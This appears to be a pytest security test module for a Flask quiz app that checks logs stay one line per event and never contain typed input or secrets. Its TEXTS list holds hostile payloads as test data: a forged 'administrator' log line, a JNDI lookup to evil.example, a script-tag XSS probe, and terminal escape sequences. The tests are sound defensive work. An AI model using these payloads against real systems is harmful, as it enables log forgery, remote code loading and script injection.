"""T16: one event is one line whatever is sent, and no log holds what somebody typed or a secret."""

from __future__ import annotations

import json
import logging
import re
from collections.abc import Iterator
from itertools import product
from typing import Final

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import text

from tests.attacks._session import House, prepare
from tests.attacks.counts import count
from tests.conftest import Clock
from tests.web import _classes, _walk
from tests.web._walk import PASSWORD, post

BREAKS: Final = [
    "\n",
    "\r",
    "\r\n",
    "\x1b[2K\x1b[1A",
    "\x1b]0;x\x07",
    "\u2028",
    "\u2029",
    "\x85",
    "\0",
    "\x0b",
]
TEXTS: Final = [
    '{"event": "signed in", "who": 1}',
    '"}\n{"event": "became teacher", "role": "administrator"}',
    "INFO:quizapp.security:signed in",
    "2026-03-02 09:00:00 [info] all is well",
    "%s%s%n%(message)s",
    "{0.__class__}",
    "${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>",
    "\\n\\u000a\\x0a",
    "a" * 3_000,
]
INPUTS: Final = [
    f"{canary}{brk}{words}{brk}"
    for canary, brk, words in product((f"zqlog{n}" for n in range(10)), BREAKS, TEXTS)
]
_NO_BREAKS: Final = dict.fromkeys([*range(32), 127])
_BREAK: Final = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")


def _wire(said: str) -> str:
    """Return a text as a server passes it on: bytes, one a character."""
    return said.encode().decode("latin-1")


class Lines(logging.Handler):
    """Everything that is logged, as it would be written."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[tuple[str, str]] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append((record.name, self.format(record)))

    def of(self, name: str) -> list[str]:
        return [line for logger, line in self.lines if logger.startswith(name)]


@pytest.fixture
def lines() -> Iterator[Lines]:
    handler, root = Lines(), logging.getLogger()
    security = logging.getLogger("quizapp.security")
    levels = root.level, security.level
    root.addHandler(handler)
    root.setLevel(logging.INFO)
    security.setLevel(logging.INFO)
    yield handler
    root.removeHandler(handler)
    root.setLevel(levels[0])
    security.setLevel(levels[1])


def test_there_are_as_many_as_were_set() -> None:
    assert len(set(INPUTS)) >= 1_000


def test_what_is_sent_makes_no_line_of_the_log(
    app: Flask, client: FlaskClient, lines: Lines
) -> None:
    _walk.become_teacher(app, client)
    made = _classes.make_class(app, client)
    step = len(INPUTS) // count(24, 1_000)
    for number, said in enumerate(INPUTS[::step]):
        stranger = app.test_client()
        agent = {"User-Agent": _wire(said).translate(_NO_BREAKS)}
        if number % 6 == 0:
            post(stranger, "/sign-in", "/sign-in", user_name=said, password=said)
        elif number % 6 == 1:
            _classes.join(stranger, str(made.code), said[:40], how="name")
        elif number % 6 == 2:
            post(stranger, "/resume", code=said)
        elif number % 6 == 3:
            stranger.get("/", environ_overrides={"PATH_INFO": _wire(f"/{said}")}, headers=agent)
        elif number % 6 == 4:
            page = f"/teach/classes/{made.id}"
            post(client, page, page, action="rename", name=said[:60])
        else:
            post(client, page, page, action="add-teacher", user_name=said)
    events = lines.of("quizapp.security")
    assert events
    for line in events:
        assert json.loads(line)["event"]
    for _, line in lines.lines:
        assert not _BREAK.search(line), line
        assert "zqlog" not in line


def test_a_request_that_fails_is_told_in_one_line_before_its_traceback(
    app: Flask, client: FlaskClient, lines: Lines
) -> None:
    def fail(_rest: str) -> str:
        raise RuntimeError("inside")

    app.add_url_rule("/fail/<path:_rest>", view_func=fail)
    for said in INPUTS[:: len(INPUTS) // count(10, 200)]:
        lines.lines.clear()
        reply = client.get("/", environ_overrides={"PATH_INFO": _wire(f"/fail/x{said}")})
        assert reply.status_code in {404, 500}
        for line in lines.of("quizapp"):
            head = line.partition("\nTraceback")[0]
            assert not _BREAK.search(head), head


def test_no_log_of_a_whole_term_holds_what_was_typed_or_a_secret(
    app: Flask, clock: Clock, lines: Lines
) -> None:
    prepare(app)
    house = House(app, "zqterm", clock)
    house.live()
    codes = [_walk.resume_code(house.clients[who]) for who in ("ann", "ben")]
    cookies = [c.get_cookie("quizapp") for c in house.clients.values()]
    secrets = [*codes, *(cookie.value for cookie in cookies if cookie)]
    secrets += [_classes.code_of(app, class_id) for class_id in house.class_ids]
    secrets += [PASSWORD, "lamp oil", "I think", "Dora", "Emil", app.secret_key]
    told = "\n".join(line for _, line in lines.lines)
    assert len(lines.of("quizapp.security")) > 10
    assert [secret for secret in secrets if str(secret) in told] == []


REFUSE = "CREATE TRIGGER no BEFORE INSERT ON readers BEGIN SELECT RAISE(ABORT, 'no'); END"
MISS = "ALTER TABLE answers RENAME COLUMN digest TO elsewhere"


def test_an_error_of_the_database_does_not_tell_what_was_to_be_stored(
    app: Flask, client: FlaskClient, lines: Lines
) -> None:
    app.extensions["quizapp"].database.write(lambda c: c.execute(text(REFUSE)).close())
    reply = post(client, "/quizzes/lighthouse", name="zqname")
    assert reply.status_code in {500, 503}
    told = "\n".join(line for _, line in lines.lines)
    assert "IntegrityError" in told
    assert "zqname" not in told


def test_a_save_that_fails_does_not_tell_the_answer(
    app: Flask, client: FlaskClient, lines: Lines
) -> None:
    attempt = _walk.start(client)
    head = {"X-CSRF-Token": _walk.csrf(client), "Accept": "application/json"}
    app.extensions["quizapp"].database.write(lambda c: c.execute(text(MISS)).close())
    message = {"tab": "t", "seq": 0, "base": 0, "response": {"": ["zqtyped"]}}
    reply = client.post(f"{attempt}/questions/2", json=message, headers=head)
    assert reply.status_code in {500, 503}
    told = "\n".join(line for _, line in lines.lines)
    assert "OperationalError" in told
    assert "zqtyped" not in told
